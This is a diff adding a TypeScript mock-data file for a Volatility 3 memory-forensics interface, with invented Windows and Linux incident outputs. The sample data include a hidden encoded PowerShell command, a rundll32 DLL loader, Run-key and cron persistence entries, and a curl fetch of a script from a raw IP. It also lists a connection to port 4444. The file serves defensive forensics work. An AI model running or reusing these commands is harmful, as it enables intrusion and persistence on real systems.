@@ -0,0 +1,313 @@
+import type { PluginInfo, PresetInfo, ResultRow } from '../api/vtfApi';
+
+// Ukázková data pro mock backend - jeden Windows a jeden Linux projekt.
+// Výstupy odpovídají sloupcům Volatility 3, hodnoty jsou smyšlené.
+
+export const WINDOWS_PROJECT_ID = 'd3m0a11c-0000-4000-8000-000000000001';
+export const LINUX_PROJECT_ID = 'd3m0a11c-0000-4000-8000-000000000002';
+
+interface FixtureProcess {
+  pid: number;
+  ppid: number;
+  name: string;
+  offset: string;
+  threads: number;
+  handles: number | null;
+  session: number | null;
+  wow64: boolean;
+  created: string;
+  exited: string | null;
+  path: string | null;
+  cmd: string | null;
+}
+
+const WINDOWS_PROCESSES: FixtureProcess[] = [
+  { pid: 4, ppid: 0, name: 'System', offset: '0xd5099a478040', threads: 156, handles: null, session: null, wow64: false, created: '2024-03-11T07:58:12+00:00', exited: null, path: null, cmd: null },
+  { pid: 92, ppid: 4, name: 'Registry', offset: '0xd5099a4e2080', threads: 4, handles: null, session: null, wow64: false, created: '2024-03-11T07:58:09+00:00', exited: null, path: null, cmd: null },
+  { pid: 348, ppid: 4, name: 'smss.exe', offset: '0xd5099b8c1040', threads: 2, handles: null, session: null, wow64: false, created: '2024-03-11T07:58:12+00:00', exited: null, path: '\\SystemRoot\\System32\\smss.exe', cmd: '\\SystemRoot\\System32\\smss.exe' },
+  { pid: 436, ppid: 428, name: 'csrss.exe', offset: '0xd5099c1a3080', threads: 11, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:14+00:00', exited: null, path: 'C:\\Windows\\system32\\csrss.exe', cmd: '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows' },
+  { pid: 512, ppid: 428, name: 'wininit.exe', offset: '0xd5099c2d7080', threads: 1, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:14+00:00', exited: null, path: 'C:\\Windows\\system32\\wininit.exe', cmd: 'wininit.exe' },
+  { pid: 524, ppid: 504, name: 'csrss.exe', offset: '0xd5099c2e1140', threads: 13, handles: null, session: 1, wow64: false, created: '2024-03-11T07:58:14+00:00', exited: null, path: 'C:\\Windows\\system32\\csrss.exe', cmd: '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows' },
+  { pid: 588, ppid: 504, name: 'winlogon.exe', offset: '0xd5099c33a080', threads: 3, handles: null, session: 1, wow64: false, created: '2024-03-11T07:58:14+00:00', exited: null, path: 'C:\\Windows\\system32\\winlogon.exe', cmd: 'winlogon.exe' },
+  { pid: 640, ppid: 512, name: 'services.exe', offset: '0xd5099c3a5080', threads: 6, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:15+00:00', exited: null, path: 'C:\\Windows\\system32\\services.exe', cmd: 'C:\\Windows\\system32\\services.exe' },
+  { pid: 652, ppid: 512, name: 'lsass.exe', offset: '0xd5099c3b0080', threads: 8, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:15+00:00', exited: null, path: 'C:\\Windows\\system32\\lsass.exe', cmd: 'C:\\Windows\\system32\\lsass.exe' },
+  { pid: 780, ppid: 640, name: 'svchost.exe', offset: '0xd5099c4e2080', threads: 19, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:16+00:00', exited: null, path: 'C:\\Windows\\system32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p' },
+  { pid: 864, ppid: 640, name: 'svchost.exe', offset: '0xd5099c52f080', threads: 12, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:16+00:00', exited: null, path: 'C:\\Windows\\system32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k RPCSS -p' },
+  { pid: 1340, ppid: 640, name: 'svchost.exe', offset: '0xd5099d1c0080', threads: 22, handles: null, session: 0, wow64: false, created: '2024-03-11T07:58:19+00:00', exited: null, path: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p' },
+  { pid: 2204, ppid: 2180, name: 'explorer.exe', offset: '0xd5099e8a4080', threads: 64, handles: null, session: 1, wow64: false, created: '2024-03-11T08:01:42+00:00', exited: null, path: 'C:\\Windows\\Explorer.EXE', cmd: 'C:\\Windows\\Explorer.EXE' },
+  { pid: 3120, ppid: 2204, name: 'chrome.exe', offset: '0xd5099f0d1080', threads: 38, handles: null, session: 1, wow64: false, created: '2024-03-11T08:03:10+00:00', exited: null, path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"' },
+  { pid: 3356, ppid: 2204, name: 'OneDrive.exe', offset: '0xd5099f1a2080', threads: 24, handles: null, session: 1, wow64: true, created: '2024-03-11T08:01:58+00:00', exited: null, path: 'C:\\Users\\jnovak\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', cmd: '"C:\\Users\\jnovak\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background' },
+  { pid: 4412, ppid: 2204, name: 'powershell.exe', offset: '0xd509a01c5080', threads: 14, handles: null, session: 1, wow64: false, created: '2024-03-11T09:14:27+00:00', exited: null, path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA' },
+  { pid: 5020, ppid: 4412, name: 'rundll32.exe', offset: '0xd509a02e7080', threads: 5, handles: null, session: 1, wow64: false, created: '2024-03-11T09:14:31+00:00', exited: null, path: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe C:\\Users\\jnovak\\AppData\\Local\\Temp\\upd4te.dll,DllRegisterServer' },
+  { pid: 5544, ppid: 2204, name: 'cmd.exe', offset: '0xd509a0411080', threads: 1, handles: null, session: 1, wow64: false, created: '2024-03-11T09:20:03+00:00', exited: '2024-03-11T09:21:44+00:00', path: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c whoami /all' },
+  { pid: 6088, ppid: 2204, name: 'notepad.exe', offset: '0xd509a05f3080', threads: 2, handles: null, session: 1, wow64: false, created: '2024-03-11T09:32:51+00:00', exited: null, path: 'C:\\Windows\\system32\\notepad.exe', cmd: '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\jnovak\\Desktop\\notes.txt' },
+];
+
+const LINUX_PROCESSES: FixtureProcess[] = [
+  { pid: 1, ppid: 0, name: 'systemd', offset: '0x9a3f80a1c000', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T12:00:01+00:00', exited: null, path: null, cmd: '/sbin/init splash' },
+  { pid: 2, ppid: 0, name: 'kthreadd', offset: '0x9a3f80a1d980', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T12:00:01+00:00', exited: null, path: null, cmd: null },
+  { pid: 412, ppid: 1, name: 'systemd-journal', offset: '0x9a3f8452b300', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T12:00:04+00:00', exited: null, path: null, cmd: '/lib/systemd/systemd-journald' },
+  { pid: 688, ppid: 1, name: 'sshd', offset: '0x9a3f85c31980', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T12:00:09+00:00', exited: null, path: null, cmd: 'sshd: /usr/sbin/sshd -D' },
+  { pid: 702, ppid: 1, name: 'cron', offset: '0x9a3f85c36600', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T12:00:09+00:00', exited: null, path: null, cmd: '/usr/sbin/cron -f' },
+  { pid: 1873, ppid: 688, name: 'sshd', offset: '0x9a3f8b1a0000', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T14:22:37+00:00', exited: null, path: null, cmd: 'sshd: admin@pts/0' },
+  { pid: 1901, ppid: 1873, name: 'bash', offset: '0x9a3f8b1a4c80', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T14:22:38+00:00', exited: null, path: null, cmd: '-bash' },
+  { pid: 2240, ppid: 1901, name: 'curl', offset: '0x9a3f8c07b300', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T14:25:10+00:00', exited: '2024-04-02T14:25:12+00:00', path: null, cmd: 'curl -s http://45.137.21.9/x.sh' },
+  { pid: 2252, ppid: 1, name: 'kworker/u8:3', offset: '0x9a3f8c07e600', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T14:25:14+00:00', exited: null, path: null, cmd: '/tmp/.X11-unix/.kw' },
+  { pid: 2260, ppid: 702, name: 'sh', offset: '0x9a3f8c0f1980', threads: 1, handles: null, session: null, wow64: false, created: '2024-04-02T14:30:00+00:00', exited: null, path: null, cmd: '/bin/sh -c /tmp/.X11-unix/.kw --persist' },
+];
+
+// ── Windows výstupy ──
+
+const windowsPsList: ResultRow[] = WINDOWS_PROCESSES.map(p => ({
+  PID: p.pid,
+  PPID: p.ppid,
+  ImageFileName: p.name,
+  'Offset(V)': p.offset,
+  Threads: p.threads,
+  Handles: p.handles,
+  SessionId: p.session,
+  Wow64: p.wow64,
+  CreateTime: p.created,
+  ExitTime: p.exited,
+  'File output': 'Disabled',
+}));
+
+function buildTree(processes: FixtureProcess[], toRow: (p: FixtureProcess) => ResultRow): ResultRow[] {
+  const pids = new Set(processes.map(p => p.pid));
+  const build = (p: FixtureProcess): ResultRow => {
+    const children = processes.filter(c => c.ppid === p.pid && c.pid !== p.pid);
+    return { ...toRow(p), __children: children.map(build) };
+  };
+  // Kořeny = procesy, jejichž rodič už v paměti není
+  return processes.filter(p => !pids.has(p.ppid)).map(build);
+}
+
+const windowsPsTree = buildTree(WINDOWS_PROCESSES, p => ({
+  PID: p.pid,
+  PPID: p.ppid,
+  ImageFileName: p.name,
+  'Offset(V)': p.offset,
+  Threads: p.threads,
+  Handles: p.handles,
+  SessionId: p.session,
+  Wow64: p.wow64,
+  CreateTime: p.created,
+  ExitTime: p.exited,
+  Audit: p.path ? `\\Device\\HarddiskVolume3${p.path.replace(/^C:/, '')}` : null,
+  Cmd: p.cmd,
+  Path: p.path,
+}));
+
+const windowsNetScan: ResultRow[] = [
+  { Offset: '0xd5099c8a1010', Proto: 'TCPv4', LocalAddr: '0.0.0.0', LocalPort: 135, ForeignAddr: '0.0.0.0', ForeignPort: 0, State: 'LISTENING', PID: 864, Owner: 'svchost.exe', Created: '2024-03-11T07:58:16+00:00' },
+  { Offset: '0xd5099c8a2a20', Proto: 'TCPv4', LocalAddr: '0.0.0.0', LocalPort: 49664, ForeignAddr: '0.0.0.0', ForeignPort: 0, State: 'LISTENING', PID: 652, Owner: 'lsass.exe', Created: '2024-03-11T07:58:15+00:00' },
+  { Offset: '0xd5099e11c8a0', Proto: 'UDPv4', LocalAddr: '0.0.0.0', LocalPort: 5353, ForeignAddr: '*', ForeignPort: 0, State: '', PID: 1340, Owner: 'svchost.exe', Created: '2024-03-11T07:58:22+00:00' },
+  { Offset: '0xd5099f3d4010', Proto: 'TCPv4', LocalAddr: '192.168.56.101', LocalPort: 50214, ForeignAddr: '142.250.74.78', ForeignPort: 443, State: 'ESTABLISHED', PID: 3120, Owner: 'chrome.exe', Created: '2024-03-11T08:05:41+00:00' },
+  { Offset: '0xd5099f3d6b30', Proto: 'TCPv4', LocalAddr: '192.168.56.101', LocalPort: 50231, ForeignAddr: '13.107.42.14', ForeignPort: 443, State: 'ESTABLISHED', PID: 3356, Owner: 'OneDrive.exe', Created: '2024-03-11T08:02:03+00:00' },
+  { Offset: '0xd509a0322a80', Proto: 'TCPv4', LocalAddr: '192.168.56.101', LocalPort: 50402, ForeignAddr: '185.220.101.47', ForeignPort: 443, State: 'ESTABLISHED', PID: 5020, Owner: 'rundll32.exe', Created: '2024-03-11T09:14:33+00:00' },
+  { Offset: '0xd509a0324010', Proto: 'TCPv4', LocalAddr: '192.168.56.101', LocalPort: 50398, ForeignAddr: '185.220.101.47', ForeignPort: 8080, State: 'CLOSED', PID: 4412, Owner: 'powershell.exe', Created: '2024-03-11T09:14:29+00:00' },
+];
+
+const windowsMalfind: ResultRow[] = [
+  { PID: 5020, Process: 'rundll32.exe', 'Start VPN': '0x1f0000', 'End VPN': '0x1f0fff', Tag: 'VadS', Protection: 'PAGE_EXECUTE_READWRITE', CommitCharge: 1, PrivateMemory: 1, 'File output': 'Disabled', Notes: 'MZ header', Hexdump: '4d 5a 90 00 03 00 00 00 04 00 00 00 ff ff 00 00\nb8 00 00 00 00 00 00 00 40 00 00 00 00 00 00 00', Disasm: 'dec ebp\npop edx\nnop\nadd byte ptr [ebx], al' },
+  { PID: 5020, Process: 'rundll32.exe', 'Start VPN': '0x2a40000', 'End VPN': '0x2a4ffff', Tag: 'VadS', Protection: 'PAGE_EXECUTE_READWRITE', CommitCharge: 16, PrivateMemory: 1, 'File output': 'Disabled', Notes: null, Hexdump: 'fc 48 83 e4 f0 e8 c0 00 00 00 41 51 41 50 52 51', Disasm: 'cld\nand rsp, 0xfffffffffffffff0\ncall 0x2a400c9' },
+  { PID: 4412, Process: 'powershell.exe', 'Start VPN': '0x7ff6a000', 'End VPN': '0x7ff6afff', Tag: 'VadS', Protection: 'PAGE_EXECUTE_READWRITE', CommitCharge: 1, PrivateMemory: 1, 'File output': 'Disabled', Notes: null, Hexdump: '48 89 5c 24 08 57 48 83 ec 20 48 8b d9 e8 00 00', Disasm: 'mov qword ptr [rsp + 8], rbx\npush rdi\nsub rsp, 0x20' },
+];
+
+export const HIVE_OFFSETS = {
+  system: 0xa8042b6e3000,
+  software: 0xa8042b8a1000,
+  ntuser: 0xa80430c55000,
+};
+
+const windowsHiveList: ResultRow[] = [
+  { Offset: '0xa8042a065000', FileFullPath: '', 'File output': 'Disabled' },
+  { Offset: `0x${HIVE_OFFSETS.system.toString(16)}`, FileFullPath: '\\REGISTRY\\MACHINE\\SYSTEM', 'File output': 'Disabled' },
+  { Offset: `0x${HIVE_OFFSETS.software.toString(16)}`, FileFullPath: '\\SystemRoot\\System32\\Config\\SOFTWARE', 'File output': 'Disabled' },
+  { Offset: '0xa8042b9f2000', FileFullPath: '\\SystemRoot\\System32\\Config\\SAM', 'File output': 'Disabled' },
+  { Offset: `0x${HIVE_OFFSETS.ntuser.toString(16)}`, FileFullPath: '\\??\\C:\\Users\\jnovak\\ntuser.dat', 'File output': 'Disabled' },
+];
+
+const RUN_KEY = 'Microsoft\\Windows\\CurrentVersion\\Run';
+
+function printKeyRow(hive: number, type: string, key: string, name: string, data: string | null, lastWrite: string): ResultRow {
+  return {
+    'Last Write Time': lastWrite,
+    'Hive Offset': `0x${hive.toString(16)}`,
+    Type: type,
+    Key: key,
+    Name: name,
+    Data: data,
+    Volatile: false,
+  };
+}
+
+const windowsPrintKey: ResultRow[] = [
+  printKeyRow(HIVE_OFFSETS.software, 'Key', '', 'Microsoft', null, '2024-02-20T10:11:02+00:00'),
+  printKeyRow(HIVE_OFFSETS.software, 'Key', '', 'Classes', null, '2024-03-01T16:40:00+00:00'),
+  printKeyRow(HIVE_OFFSETS.software, 'Key', 'Microsoft', 'Windows', null, '2024-02-20T10:11:02+00:00'),
+  printKeyRow(HIVE_OFFSETS.software, 'Key', 'Microsoft\\Windows', 'CurrentVersion', null, '2024-03-11T09:14:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.software, 'Key', 'Microsoft\\Windows\\CurrentVersion', 'Run', null, '2024-03-11T09:14:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.software, 'REG_SZ', RUN_KEY, 'SecurityHealth', '%windir%\\system32\\SecurityHealthSystray.exe', '2024-03-11T09:14:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.software, 'REG_SZ', RUN_KEY, 'WindowsUpdate', 'rundll32.exe C:\\Users\\jnovak\\AppData\\Local\\Temp\\upd4te.dll,DllRegisterServer', '2024-03-11T09:14:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.system, 'Key', '', 'ControlSet001', null, '2024-03-11T07:58:20+00:00'),
+  printKeyRow(HIVE_OFFSETS.system, 'Key', 'ControlSet001', 'Services', null, '2024-03-11T09:15:02+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'Key', '', 'Software', null, '2024-03-11T08:01:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'Key', 'Software', 'Microsoft', null, '2024-03-11T08:01:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'Key', 'Software\\Microsoft', 'Windows', null, '2024-03-11T08:01:40+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'Key', 'Software\\Microsoft\\Windows', 'CurrentVersion', null, '2024-03-11T09:14:38+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'Key', 'Software\\Microsoft\\Windows\\CurrentVersion', 'Run', null, '2024-03-11T09:14:38+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'REG_SZ', `Software\\${RUN_KEY}`, 'OneDrive', '"C:\\Users\\jnovak\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', '2024-03-11T09:14:38+00:00'),
+  printKeyRow(HIVE_OFFSETS.ntuser, 'REG_EXPAND_SZ', `Software\\${RUN_KEY}`, 'Updater', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', '2024-03-11T09:14:38+00:00'),
+];
+
+// ── Linux výstupy ──
+
+const linuxPsList: ResultRow[] = LINUX_PROCESSES.map(p => ({
+  'OFFSET (V)': p.offset,
+  PID: p.pid,
+  TID: p.pid,
+  PPID: p.ppid,
+  COMM: p.name,
+  UID: p.name === 'bash' || p.name === 'curl' ? 1000 : 0,
+  GID: p.name === 'bash' || p.name === 'curl' ? 1000 : 0,
+  'CREATION TIME': p.created,
+  'File output': 'Disabled',
+}));
+
+const linuxPsTree = buildTree(LINUX_PROCESSES, p => ({
+  'OFFSET (V)': p.offset,
+  PID: p.pid,
+  TID: p.pid,
+  PPID: p.ppid,
+  COMM: p.name,
+}));
+
+const linuxSockstat: ResultRow[] = [
+  { NetNS: 4026531840, Process: 'sshd', PID: 688, TID: 688, FD: 3, 'Sock Offset': '0x9a3f86a1e000', Family: 'AF_INET', Type: 'STREAM', Proto: 'TCP', 'Source Addr': '0.0.0.0', 'Source Port': 22, 'Destination Addr': '0.0.0.0', 'Destination Port': 0, State: 'LISTEN', Filter: null },
+  { NetNS: 4026531840, Process: 'sshd', PID: 1873, TID: 1873, FD: 4, 'Sock Offset': '0x9a3f8b2c4000', Family: 'AF_INET', Type: 'STREAM', Proto: 'TCP', 'Source Addr': '10.0.2.15', 'Source Port': 22, 'Destination Addr': '10.0.2.2', 'Destination Port': 51544, State: 'ESTABLISHED', Filter: null },
+  { NetNS: 4026531840, Process: 'kworker/u8:3', PID: 2252, TID: 2252, FD: 5, 'Sock Offset': '0x9a3f8c1d0000', Family: 'AF_INET', Type: 'STREAM', Proto: 'TCP', 'Source Addr': '10.0.2.15', 'Source Port': 40112, 'Destination Addr': '45.137.21.9', 'Destination Port': 4444, State: 'ESTABLISHED', Filter: null },
+];
+
+const linuxMalfind: ResultRow[] = [
+  { PID: 2252, Process: 'kworker/u8:3', 'Start': '0x7f3a1c000000', 'End': '0x7f3a1c021000', Path: 'Anonymous Mapping', Protection: 'rwx', Hexdump: '7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00', Disasm: 'jg 0x47\ninc ebp\ndec esp' },
+];
+
+// ── Plugin katalog ──
+
+export const FIXTURE_PLUGINS: PluginInfo[] = [
+  { name: 'windows.info.Info', category: 'System', description: 'Informace o systému a kernelu', supported_os: ['windows'] },
+  { name: 'windows.pslist.PsList', category: 'Procesy', description: 'Seznam procesů z EPROCESS listu', supported_os: ['windows'] },
+  { name: 'windows.pstree.PsTree', category: 'Procesy', description: 'Strom procesů podle rodičovských PID', supported_os: ['windows'] },
+  { name: 'windows.cmdline.CmdLine', category: 'Procesy', description: 'Příkazové řádky procesů', supported_os: ['windows'] },
+  { name: 'windows.dlllist.DllList', category: 'Procesy', description: 'Načtené DLL knihovny', supported_os: ['windows'] },
+  { name: 'windows.handles.Handles', category: 'Procesy', description: 'Otevřené handly procesů', supported_os: ['windows'] },
+  { name: 'windows.netscan.NetScan', category: 'Síť', description: 'Síťová spojení a naslouchající porty', supported_os: ['windows'] },
+  { name: 'windows.malfind.Malfind', category: 'Malware', description: 'Podezřelé spustitelné oblasti paměti', supported_os: ['windows'] },
+  { name: 'windows.vadinfo.VadInfo', category: 'Paměť', description: 'Virtual Address Descriptor stromy', supported_os: ['windows'] },
+  { name: 'windows.filescan.FileScan', category: 'Soubory', description: 'FILE_OBJECT struktury v paměti', supported_os: ['windows'] },
+  { name: 'windows.registry.hivelist.HiveList', category: 'Registry', description: 'Seznam registry hivů', supported_os: ['windows'] },
+  { name: 'windows.registry.printkey.PrintKey', category: 'Registry', description: 'Klíče a hodnoty registru', supported_os: ['windows'] },
+  { name: 'linux.pslist.PsList', category: 'Procesy', description: 'Seznam procesů z task_struct', supported_os: ['linux'] },
+  { name: 'linux.pstree.PsTree', category: 'Procesy', description: 'Strom procesů', supported_os: ['linux'] },
+  { name: 'linux.sockstat.Sockstat', category: 'Síť', description: 'Sockety procesů', supported_os: ['linux'] },
+  { name: 'linux.malfind.Malfind', category: 'Malware', description: 'Podezřelé spustitelné mapování paměti', supported_os: ['linux'] },
+  { name: 'linux.bash.Bash', category: 'Procesy', description: 'Historie bash příkazů z paměti', supported_os: ['linux'] },
+];
+
+export const FIXTURE_PRESETS: Record<string, PresetInfo & { os: string }> = {
+  'Rychlý triage': {
+    os: 'windows',
+    description: 'Procesy, síť a malfind',
+    plugins: ['windows.pslist.PsList', 'windows.pstree.PsTree', 'windows.netscan.NetScan', 'windows.malfind.Malfind'],
+  },
+  'Perzistence': {
+    os: 'windows',
+    description: 'Registry Run klíče a příkazové řádky',
+    plugins: ['windows.registry.hivelist.HiveList', 'windows.registry.printkey.PrintKey', 'windows.cmdline.CmdLine'],
+  },
+  'Linux triage': {
+    os: 'linux',
+    description: 'Procesy, sockety a malfind',
+    plugins: ['linux.pslist.PsList', 'linux.pstree.PsTree', 'linux.sockstat.Sockstat', 'linux.malfind.Malfind'],
+  },
+};
+
+/** Pluginy, jejichž běh v mock režimu vždy selže (pro test chybových stavů) */
+export const FAILING_PLUGINS: Record<string, string> = {
+  'windows.vadinfo.VadInfo': 'Volatility exited with code 1: PagedInvalidAddressException at 0xd509a02e7080',
+  'windows.filescan.FileScan': 'Plugin timed out after 3600 seconds',
+  'linux.bash.Bash': 'Unsatisfied requirement plugins.Bash.kernel.symbol_table_name: Linux kernel symbols',
+};
+
+export interface FixtureProject {
+  analysis_id: string;
+  filename: string;
+  project_name: string;
+  size_bytes: number;
+  uploaded_at: string;
+  os_type: string;
+  kernel_version?: string;
+  architecture: string;
+  processes: FixtureProcess[];
+  /** Výstupy pluginů, které jsou v projektu už hotové */
+  results: Record<string, ResultRow[]>;
+  /** Výchozí stavy jiných pluginů (running doběhne po spuštění mocku) */
+  initialStatus: Record<string, { status: 'running' | 'failed'; error?: string }>;
+}
+
+export const FIXTURE_PROJECTS: FixtureProject[] = [
+  {
+    analysis_id: WINDOWS_PROJECT_ID,
+    filename: 'WIN10-WS042.vmem',
+    project_name: 'Incident WS042 (demo)',
+    size_bytes: 4294967296,
+    uploaded_at: '2024-03-11T11:02:15+00:00',
+    os_type: 'windows',
+    architecture: 'x64',
+    processes: WINDOWS_PROCESSES,
+    results: {
+      'windows.pslist.PsList': windowsPsList,
+      'windows.pstree.PsTree': windowsPsTree,
+      'windows.netscan.NetScan': windowsNetScan,
+      'windows.malfind.Malfind': windowsMalfind,
+      'windows.registry.hivelist.HiveList': windowsHiveList,
+      'windows.registry.printkey.PrintKey': windowsPrintKey,
+    },
+    initialStatus: {
+      'windows.vadinfo.VadInfo': { status: 'failed', error: FAILING_PLUGINS['windows.vadinfo.VadInfo'] },
+      'windows.cmdline.CmdLine': { status: 'running' },
+    },
+  },
+  {
+    analysis_id: LINUX_PROJECT_ID,
+    filename: 'ubuntu-web01.lime',
+    project_name: 'Ubuntu web01 (demo)',
+    size_bytes: 2147483648,
+    uploaded_at: '2024-04-02T16:45:00+00:00',
+    os_type: 'linux',
+    kernel_version: '5.15.0-91-generic',
+    architecture: 'x86_64',
+    processes: LINUX_PROCESSES,
+    results: {
+      'linux.pslist.PsList': linuxPsList,
+      'linux.pstree.PsTree': linuxPsTree,
+      'linux.sockstat.Sockstat': linuxSockstat,
+      'linux.malfind.Malfind': linuxMalfind,
+    },
+    initialStatus: {
+      'linux.bash.Bash': { status: 'failed', error: FAILING_PLUGINS['linux.bash.Bash'] },
+    },
+  },
+];
+
+export const FIXTURE_SYMBOLS = [
+  {
+    symbol_id: 'ubuntu-5.15.0-91-generic',
+    kernel_version: '5.15.0-91-generic',
+    size_bytes: 48234496,
+    size_mb: 46,
+    created_at: '2024-04-02T16:50:12+00:00',
+    file_path: '/symbols/linux/ubuntu-5.15.0-91-generic.json.xz',
+  },
+];